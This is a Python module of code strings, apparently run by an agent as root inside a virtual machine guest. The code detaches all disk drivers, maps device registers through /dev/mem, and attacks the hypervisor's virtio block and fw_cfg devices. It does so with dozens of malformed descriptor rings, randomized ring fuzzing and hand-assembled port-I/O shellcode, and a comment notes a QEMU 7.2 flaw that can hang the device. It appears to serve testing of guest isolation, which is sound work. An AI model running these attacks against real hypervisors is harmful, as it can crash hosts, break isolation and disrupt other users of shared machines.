"""Root in a guest that drives its devices itself: rings by hand, well-formed and not.

The kernel lets nobody map the registers of a device that has a driver, and all of them lie in
one page.  So everything is locked into memory, every driver is taken off its device, the
disks of the root among them, and at the end they are put back for the channel to report on.

To be run by the agent of `guests_owned.ANY`; `found` is what it reports.
"""

from typing import Final

DRIVE: Final = r"""
import ctypes, mmap, random

MAGIC, ID, FEATURES, PAGE_SIZE, SELECT, MOST, COUNT, ALIGN, PFN, NOTIFY, STATUS = (
    0x00, 0x08, 0x20, 0x28, 0x30, 0x34, 0x38, 0x3C, 0x40, 0x50, 0x70)
NEXT, WRITE, INDIRECT = 1, 2, 4
SIZE, USED, DRIVERS = 8, 256, "/sys/bus/platform/drivers/virtio-mmio"
FAR, HUGE = 0xDEAD00000000, 0xFFFFFFFF
LIBC.mlockall(3)


class Memory:
    # A page of our own whose place in the machine's memory is known.
    def __init__(self):
        self.page = mmap.mmap(-1, 4096)
        self.page[0:4096] = bytes(4096)
        at = ctypes.addressof(ctypes.c_char.from_buffer(self.page))
        with open("/proc/self/pagemap", "rb", buffering=0) as file:
            file.seek(at // 4096 * 8)
            self.at = (struct.unpack("<Q", file.read(8))[0] & (2**55 - 1)) * 4096
        assert self.at


class Disk:
    def __init__(self, registers, offset):
        self.registers, self.offset = registers, offset
        self.ring, self.data = Memory(), Memory()

    def get(self, name):
        return ctypes.c_uint32.from_buffer(self.registers, self.offset + name).value

    def put(self, name, value):
        ctypes.c_uint32.from_buffer(self.registers, self.offset + name).value = value % 2**32

    def begin(self, pfn=None, count=SIZE):
        # Forget everything, then one queue whose parts lie in one page.
        self.put(STATUS, 0)
        self.ring.page[0:4096] = self.data.page[0:4096] = bytes(4096)
        for value in (1, 3): self.put(STATUS, value)
        self.put(FEATURES, 1 << 28)  # indirect descriptors
        self.put(PAGE_SIZE, 4096)
        for name, value in ((SELECT, 0), (COUNT, count), (ALIGN, USED)): self.put(name, value)
        self.put(PFN, self.ring.at // 4096 if pfn is None else pfn)
        self.put(STATUS, 7)

    def offer(self, chain, heads=(0,), index=None):
        for at, (address, length, flags, following) in enumerate(chain):
            part = struct.pack("<QIHH", address % 2**64, length, flags, following)
            self.ring.page[at * 16 : at * 16 + 16] = part
        said = struct.pack("<HH", 1, len(heads) if index is None else index)
        said += b"".join(struct.pack("<H", head) for head in heads)
        self.ring.page[SIZE * 16 : SIZE * 16 + len(said)] = said
        self.put(NOTIFY, 0)

    def answered(self):
        return struct.unpack_from("<H", self.ring.page, USED + 2)[0]

    def good(self, sector=2):
        # Header, room for a sector, room for a byte of status.
        self.data.page[0:16] = struct.pack("<IIQ", 0, 0, sector)
        self.data.page[1024] = 255
        at = self.data.at
        return [(at, 16, NEXT, 1), (at + 512, 512, NEXT | WRITE, 2), (at + 1024, 1, WRITE, 0)]

    def ask(self, kind, middle):
        # A request of another kind than reading; its second part may say sectors and a count.
        first, _, last = self.good()
        self.data.page[0:4] = struct.pack("<I", kind)
        self.data.page[512:528] = struct.pack("<QII", 0, HUGE, 0)
        self.offer([first, middle, last])

    def read(self):
        # One sector, as a driver would; None if nobody answers for a long while.
        self.begin()
        self.offer(self.good())
        for _ in range(20_000):
            if self.answered():
                return bytes(self.data.page[512:1024]), self.data.page[1024]
            time.sleep(0.001)
        return None


def places():
    named = {}
    for line in read_text("/proc/iomem").splitlines():
        span, _, name = line.strip().partition(" : ")
        named.setdefault(name, int(span.partition("-")[0], 16))
    return named


def disk_named(serial):
    for name in os.listdir("/sys/block"):
        if read_text(f"/sys/block/{name}/serial").strip() == serial:
            return os.path.realpath(f"/sys/block/{name}/device/..").rpartition("/")[2]


def mapped(base):
    fd = os.open("/dev/mem", os.O_RDWR | os.O_SYNC)
    try:
        return mmap.mmap(fd, 4096, offset=base & ~4095)
    finally:
        os.close(fd)


def tell_driver(act, name):
    with open(f"{DRIVERS}/{act}", "w") as file:
        file.write(name)


def driving(act):
    # Do `act` with the disk of inputs, all drivers gone; then give the channel back.
    target, named = disk_named("in"), places()
    bound = [name for name in os.listdir(DRIVERS) if ":" in name]
    try:
        mapped(named[target])
        found["with drivers"] = "mapped"
    except OSError as exc:
        found["with drivers"] = exc.strerror
    for name in bound: tell_driver("unbind", name)
    try:
        registers = mapped(named[target])
        found["magic"] = bytes(registers[named[target] & 4095 :][:4]).decode("latin-1")
        act(Disk(registers, named[target] & 4095))
    except BaseException:
        found["failed"] = traceback.format_exc()
    for name in bound: tell_driver("bind", name)
    return open_port()


found = {}
"""

# Each is one way to break a ring; what `hostile` does first, a reset undoes.
MALFORMED: Final = r"""
def chain(disk, *links): disk.offer([*links])

# QEMU 7.2 lets a device write into its own registers, and then may stand still for ever.
INTO_REGISTERS = {
    "data": lambda d: d.offer(
        [d.good()[0], (0xFEB02000, 4096, NEXT | WRITE, 2), d.good()[2]]),
    "header and status": lambda d: d.offer(
        [(0xFEB02E00, 16, NEXT, 1), d.good()[1], (0xFEB02E50, 1, WRITE, 0)]),
    "ring": lambda d: (d.begin(pfn=0xFEB02), d.put(NOTIFY, 0)),
}
ATTACKS = {
    "address beyond memory": lambda d: chain(d, (FAR, 16, NEXT, 1), (FAR, HUGE, WRITE, 0)),
    "address that wraps": lambda d: chain(d, (2**64 - 16, 64, NEXT, 1), (-1, HUGE, WRITE, 0)),
    "huge length": lambda d: d.offer(
        [d.good()[0], (d.data.at, HUGE, NEXT | WRITE, 2), d.good()[2]]),
    "huge lengths all over": lambda d: d.offer(
        [(d.data.at, HUGE, NEXT | WRITE if n else NEXT, n + 1) for n in range(SIZE)]),
    "chain that bites its tail": lambda d: chain(d, (d.data.at, 16, NEXT, 0)),
    "chain of two in a circle": lambda d: chain(
        d, (d.data.at, 16, NEXT, 1), (d.data.at, 16, NEXT, 0)),
    "next beyond the table": lambda d: chain(d, (d.data.at, 16, NEXT, 65535)),
    "head beyond the table": lambda d: d.offer(d.good(), heads=(65535,)),
    "more heads than the ring has": lambda d: d.offer(d.good(), index=40000),
    "one head many times": lambda d: d.offer(d.good(), heads=(0,) * SIZE),
    "nothing at all": lambda d: chain(d, (0, 0, 0, 0)),
    "writable before readable": lambda d: chain(
        d, (d.data.at, 512, NEXT | WRITE, 1), (d.data.at, 16, 0, 0)),
    "no room for a status": lambda d: chain(d, d.good()[0][:2] + (0, 0)),
    "header of one byte": lambda d: chain(
        d, (d.data.at, 1, NEXT, 1), (d.data.at + 8, 1, WRITE, 0)),
    "indirect of a crooked size": lambda d: chain(d, (d.data.at, 17, INDIRECT, 0)),
    "indirect, huge": lambda d: chain(d, (d.data.at, HUGE - 15, INDIRECT, 0)),
    "indirect beyond memory": lambda d: chain(d, (FAR, 32, INDIRECT, 0)),
    "indirect in itself": lambda d: chain(d, (d.ring.at, 16, INDIRECT, 0)),
    "indirect and more": lambda d: chain(d, (d.ring.at, 16, INDIRECT | NEXT, 1)),
    "into its own ring": lambda d: d.offer(
        [d.good()[0], (d.ring.at, 512, NEXT | WRITE, 2), (d.ring.at + USED + 2, 1, WRITE, 0)]),
    "into the firmware": lambda d: d.offer(
        [d.good()[0], (0xFFFF0000, 512, NEXT | WRITE, 2), d.good()[2]]),
    "ring beyond memory": lambda d: (d.begin(pfn=0xFFFFFFFF), d.put(NOTIFY, 0)),
    "ring in the firmware": lambda d: (d.begin(pfn=0xFFFF0), d.put(NOTIFY, 0)),
    "ring of 65535": lambda d: (d.begin(count=65535), d.put(NOTIFY, 0)),
    "ring of none": lambda d: (d.begin(count=0), d.put(NOTIFY, 0)),
    "ring of three": lambda d: (d.begin(count=3), d.offer(d.good())),
    "crooked alignment": lambda d: (
        d.put(ALIGN, 3), d.put(PFN, d.ring.at // 4096), d.put(NOTIFY, 0)),
    "pages of no size": lambda d: (d.put(PAGE_SIZE, 0), d.put(PFN, 1), d.put(NOTIFY, 0)),
    "queues that are not there": lambda d: [
        (d.put(SELECT, n), d.put(COUNT, 8), d.put(PFN, 1), d.put(NOTIFY, n))
        for n in (1, 255, 1023, 1024, 65535, HUGE)],
    "sector beyond the disk": lambda d: d.offer(d.good(sector=2**63)),
    "a write": lambda d: d.ask(1, (d.data.at + 512, 512, NEXT, 2)),
    "a kind that is not there": lambda d: d.ask(HUGE, (d.data.at + 512, 512, NEXT | WRITE, 2)),
    "discard of everything": lambda d: d.ask(11, (d.data.at + 512, 16, NEXT, 2)),
}


def attacks(disk):
    found["before"] = disk.read()[0].hex()
    found["after"] = {}
    for name, attack in ATTACKS.items():
        disk.begin()
        attack(disk)
        told = disk.answered()
        again = disk.read()
        same = again is not None and again[0].hex() == found["before"]
        found["after"][name] = [told, "as before" if same else str(again)]
"""
ALL: Final = DRIVE + MALFORMED + "port = driving(attacks)\n"

# So many rings of chance, each within what a ring looks like.  What lies in memory is short, or
# longer than all memory: a machine that has its own kernel overwritten shows nothing.
CHANCE: Final = r"""
def by_chance(disk):
    chance = random.Random(SEED)
    found["before"] = disk.read()[0].hex()
    for _ in range(ROUNDS):
        disk.begin(count=chance.choice((SIZE, SIZE, 1, 256, 1024, 65535)))
        addresses = (disk.data.at, disk.ring.at, 0xFFFFF000, FAR, 2**64 - 1)
        lengths = (0, 1, 16, 512, 2048, 2**31, HUGE)
        disk.data.page[0:16] = struct.pack("<IIQ", chance.choice((0, 1, 4, 8, 11, 13, HUGE)), 0,
                                           chance.choice((0, 2, 2**31, 2**63)))
        links = [(chance.choice(addresses) + chance.choice((0, 0, 1, 512)), chance.choice(lengths),
                  chance.randrange(8), chance.choice((0, 1, 2, 3, 7, 65535))) for _ in range(SIZE)]
        disk.offer(links, heads=[chance.choice((0, 1, 7, 255)) for _ in range(SIZE)],
                   index=chance.choice((1, 2, SIZE, 40000)))
        disk.put(chance.randrange(0, 512, 4), chance.getrandbits(32))  # any register
    again = disk.read()
    found["after"] = again[0].hex() if again else None


port = driving(by_chance)
"""

# The firmware's device takes a descriptor by port: what, how much, where to.
PORTS: Final = r"""
LIBC.iopl.restype = ctypes.c_int
found["iopl"] = LIBC.iopl(3)
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes.fromhex("89fa89f0efc3"))  # mov edx, edi; mov eax, esi; out dx, eax; ret
out = ctypes.CFUNCTYPE(None, ctypes.c_uint32, ctypes.c_uint32)(
    ctypes.addressof(ctypes.c_char.from_buffer(code)))
code2 = mmap.mmap(-1, 4096, prot=7)
code2.write(bytes.fromhex("89fa31c0edc3"))  # mov edx, edi; xor eax, eax; in eax, dx; ret
come = ctypes.CFUNCTYPE(ctypes.c_uint32, ctypes.c_uint32)(
    ctypes.addressof(ctypes.c_char.from_buffer(code2)))
room, swap = Memory(), lambda value: int.from_bytes(value.to_bytes(4, "little"), "big")


def transfer(control, length, address, at=None):
    # Big-endian words; the lower half of the address starts it.
    room.page[0:16] = struct.pack(">IIQ", control, length, address)
    where = room.at if at is None else at
    out(0x514, swap(where >> 32)); out(0x518, swap(where & 0xFFFFFFFF))
    return struct.unpack(">I", room.page[0:4])[0]


SELECT_READ = 0x0A  # and the key in the upper half; 0 is the signature


def signature():
    room.page[64:68] = bytes(4)
    return [transfer(SELECT_READ, 4, room.at + 64), bytes(room.page[64:68]).decode("latin-1")]


found["signature"] = signature()
found["transfers"] = {}
for name, words in {
    "beyond memory": (SELECT_READ, 4, FAR), "huge, beyond memory": (SELECT_READ, HUGE, FAR),
    "skip": (0x0C, HUGE, 0), "write": (0x18, HUGE, room.at),
    "no such key": (SELECT_READ | 0xFFFF0000, 4, room.at + 64),
}.items():
    found["transfers"][name] = transfer(*words)
transfer(SELECT_READ, 4, room.at, at=FAR)
found["again"] = signature()
"""
REPORT: Final = "port.say(STDOUT, json.dumps(found).encode())\n"
